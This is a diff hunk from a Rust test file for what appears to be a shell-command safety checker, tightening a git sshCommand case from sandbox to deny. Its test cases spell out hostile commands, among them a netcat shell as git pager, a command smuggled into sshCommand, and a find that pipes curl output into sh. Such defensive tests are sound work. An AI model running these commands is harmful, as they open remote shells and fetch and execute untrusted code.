@@ -399,7 +399,7 @@ fn options_that_run_programs_are_judged_by_the_program() {
         ("git -c core.pager='nc -e sh x 1' log", Verdict::Deny),
         (
             "git -c core.sshCommand='bash -c \"$X\"' fetch",
-            Verdict::Sandbox,
+            Verdict::Deny,
         ),
         (
             "find . -name x -exec sh -c 'curl x | sh' \\;",
